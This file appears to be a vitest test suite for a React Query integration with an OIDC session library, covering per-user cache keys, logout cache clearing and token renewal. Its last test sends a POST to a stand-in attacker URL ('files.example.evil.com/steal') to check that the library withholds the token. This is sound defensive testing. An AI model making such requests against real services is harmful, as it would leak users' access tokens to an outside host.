import { QueryClient, QueryClientProvider } from "@tanstack/react-query";
import { act, cleanup, render, screen, waitFor } from "@testing-library/react";
import { StrictMode, Suspense, type ReactNode } from "react";
import { afterEach, describe, expect, it, vi } from "vitest";
import { OidcProvider } from "../../../src/react/OidcProvider";
import {
  authedQueryKey,
  authedQueryOptions,
  connectQueryClient,
  useAuthedMutation,
  useAuthedQuery,
  useAuthedSuspenseQuery,
} from "../../../src/query";
import { createMockOidc, type MockOidc } from "../../../src/testing";
import { json, stubFetch } from "./stubFetch";

type Api = "app" | "files";
const clients = { app: {}, files: { resource: "https://files.example", baseUrls: ["https://files.example/"] } };

const queryClients: QueryClient[] = [];
const disconnects: (() => void)[] = [];
afterEach(() => {
  cleanup();
  for (const disconnect of disconnects.splice(0)) disconnect();
  for (const client of queryClients.splice(0)) client.clear();
});

function renderWith(oidc: MockOidc<Api>, ui: ReactNode, queryClient = new QueryClient({ defaultOptions: { queries: { retry: false } } })) {
  queryClients.push(queryClient);
  // The one way to tie the cache to the session: once, next to the instance and the client.
  disconnects.push(connectQueryClient(oidc, queryClient));
  render(
    <StrictMode>
      <QueryClientProvider client={queryClient}>
        <OidcProvider oidc={oidc}>
          {ui}
        </OidcProvider>
      </QueryClientProvider>
    </StrictMode>,
  );
  return queryClient;
}

/** Answers with the user the token belongs to, so a test sees whose data a component shows. */
function ownerEcho() {
  return stubFetch((request) => {
    const token = request.headers.get("authorization")?.slice("Bearer ".length) ?? "";
    const payload = JSON.parse(atob(token.split(".")[1]!.replace(/-/g, "+").replace(/_/g, "/"))) as { sub: string };
    return json({ owner: payload.sub });
  });
}

function Owner({ fetchImpl }: { fetchImpl: typeof fetch }) {
  const query = useAuthedQuery({
    api: "files",
    queryKey: ["owner"],
    fetch: fetchImpl,
    queryFn: async ({ fetch }) => (await fetch("https://files.example/owner")).json() as Promise<{ owner: string }>,
  });
  return <p>{query.data ? `owner:${query.data.owner}` : `status:${query.status}/${query.fetchStatus}`}</p>;
}

describe("useAuthedQuery", () => {
  it("fetches once with the token inside StrictMode and renders the data", async () => {
    const oidc = createMockOidc({ clients, user: { sub: "alice" } });
    const stub = ownerEcho();
    renderWith(oidc, <Owner fetchImpl={stub.fetch} />);
    expect(await screen.findByText("owner:alice")).toBeTruthy();
    expect(stub.requests).toHaveLength(1);
    // The queryFn and the bound fetch both ask; the second is served from the cache, nothing is forced.
    expect(oidc.calls.getApiToken.every((call) => call.api === "files" && !call.forceRefresh)).toBe(true);
  });

  it("stays idle while the session initializes, then runs for the restored user", async () => {
    const oidc = createMockOidc({ clients, user: { sub: "alice" }, status: "initializing" });
    const start = vi.spyOn(oidc, "start");
    const stub = ownerEcho();
    const queryClient = renderWith(oidc, <Owner fetchImpl={stub.fetch} />);
    expect(await screen.findByText("owner:alice")).toBeTruthy();
    expect(start).toHaveBeenCalled();
    expect(stub.requests).toHaveLength(1);
    // The query under the "nobody" key (rendered before the restoration) never ran.
    const anonymous = queryClient.getQueryCache().findAll({ queryKey: [{ authedApi: "files", sub: null }] });
    expect(anonymous.every((q) => q.state.dataUpdatedAt === 0 && q.state.errorUpdatedAt === 0 && q.state.fetchStatus === "idle")).toBe(true);
    expect(queryClient.getQueryData([{ authedApi: "files", sub: "alice" }, "owner"])).toEqual({ owner: "alice" });
  });

  it("switches to the new user's key (and data) when the user changes", async () => {
    const oidc = createMockOidc({ clients, user: { sub: "alice" } });
    const stub = ownerEcho();
    const queryClient = renderWith(oidc, <Owner fetchImpl={stub.fetch} />);
    await screen.findByText("owner:alice");
    act(() => oidc.loginAs({ sub: "bob" }));
    expect(await screen.findByText("owner:bob")).toBeTruthy();
    const keys = queryClient.getQueryCache().getAll().map((q) => q.queryKey);
    expect(keys).toEqual([[{ authedApi: "files", sub: "bob" }, "owner"]]);
  });

  it("does not re-render for another API's token renewal", async () => {
    const oidc = createMockOidc({ clients, user: { sub: "alice" } });
    const stub = ownerEcho();
    let renders = 0;
    function Counting() {
      renders += 1;
      return <Owner fetchImpl={stub.fetch} />;
    }
    renderWith(oidc, <Counting />);
    await screen.findByText("owner:alice");
    const before = renders;
    await act(async () => {
      await oidc.getApiToken("app", { forceRefresh: true });
    });
    expect(renders).toBe(before);
  });

  it("removes the cache on logout through connectQueryClient", async () => {
    const oidc = createMockOidc({ clients, user: { sub: "alice" } });
    const stub = ownerEcho();
    const queryClient = renderWith(oidc, <Owner fetchImpl={stub.fetch} />);
    await screen.findByText("owner:alice");
    await act(async () => {
      void oidc.logout();
      await oidc.whenSettled();
    });
    // A still-mounted observer may re-create the key for "nobody"; nothing of alice's stays.
    expect(queryClient.getQueryCache().findAll({ queryKey: authedQueryKey("files") }).filter((q) => q.state.data !== undefined)).toEqual([]);
    expect(queryClient.getQueryCache().findAll({ queryKey: [{ authedApi: "files", sub: "alice" }] })).toEqual([]);
  });

  it("throws a clear error outside <OidcProvider>", () => {
    const spy = vi.spyOn(console, "error").mockImplementation(() => {});
    try {
      expect(() =>
        render(
          <QueryClientProvider client={new QueryClient()}>
            <Owner fetchImpl={fetch} />
          </QueryClientProvider>,
        ),
      ).toThrow(/OidcProvider/);
    } finally {
      spy.mockRestore();
    }
  });
});

describe("useAuthedSuspenseQuery", () => {
  it("suspends until the data is there, reading what a loader put in the cache", async () => {
    const oidc = createMockOidc({ clients, user: { sub: "alice" } });
    const stub = ownerEcho();
    const options = {
      api: "files" as const,
      queryKey: ["owner"],
      fetch: stub.fetch,
      queryFn: async ({ fetch }: { fetch: typeof globalThis.fetch }) =>
        (await fetch("https://files.example/owner")).json() as Promise<{ owner: string }>,
    };
    const queryClient = new QueryClient();
    // What a route loader does; the component must then not fetch again.
    await queryClient.ensureQueryData(authedQueryOptions(oidc, options));
    function Reader() {
      const { data } = useAuthedSuspenseQuery(options);
      return <p>suspense:{data.owner}</p>;
    }
    renderWith(
      oidc,
      <Suspense fallback={<p>loading</p>}>
        <Reader />
      </Suspense>,
      queryClient,
    );
    expect(await screen.findByText("suspense:alice")).toBeTruthy();
    expect(stub.requests).toHaveLength(1);
  });
});

describe("useAuthedMutation", () => {
  it("passes variables, the token and a bound fetch; renews once on 401", async () => {
    const oidc = createMockOidc({ clients, user: { sub: "alice" } });
    const stub = stubFetch((_request, index) => (index === 0 ? new Response(null, { status: 401 }) : json({ saved: true })));
    const seen: { name?: string; accessToken?: string } = {};
    function Save() {
      const mutation = useAuthedMutation({
        api: "files",
        fetch: stub.fetch,
        mutationFn: async (name: string, { accessToken, fetch }) => {
          Object.assign(seen, { name, accessToken });
          return (await fetch("https://files.example/save", { method: "POST", body: name })).json() as Promise<{ saved: boolean }>;
        },
      });
      return (
        <button type="button" onClick={() => mutation.mutate("report.pdf")}>
          {mutation.isSuccess ? "saved" : "save"}
        </button>
      );
    }
    renderWith(oidc, <Save />);
    act(() => screen.getByText("save").click());
    expect(await screen.findByText("saved")).toBeTruthy();
    expect(seen.name).toBe("report.pdf");
    expect(seen.accessToken).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
    expect(stub.requests).toHaveLength(2);
    expect(oidc.calls.getApiToken.filter((c) => c.forceRefresh)).toHaveLength(1);
  });

  it("refuses a foreign URL with token_url_mismatch and sends nothing", async () => {
    const oidc = createMockOidc({ clients, user: { sub: "alice" } });
    const stub = stubFetch(() => json({}));
    function Leak() {
      const mutation = useAuthedMutation({
        api: "files",
        fetch: stub.fetch,
        mutationFn: async (_: void, { fetch }) => fetch("https://files.example.evil.com/steal", { method: "POST" }),
      });
      return (
        <button type="button" onClick={() => mutation.mutate()}>
          {mutation.error ? `error:${(mutation.error as { code?: string }).code}` : "go"}
        </button>
      );
    }
    renderWith(oidc, <Leak />);
    act(() => screen.getByText("go").click());
    await waitFor(() => expect(screen.getByText("error:token_url_mismatch")).toBeTruthy());
    expect(stub.requests).toHaveLength(0);
  });
});
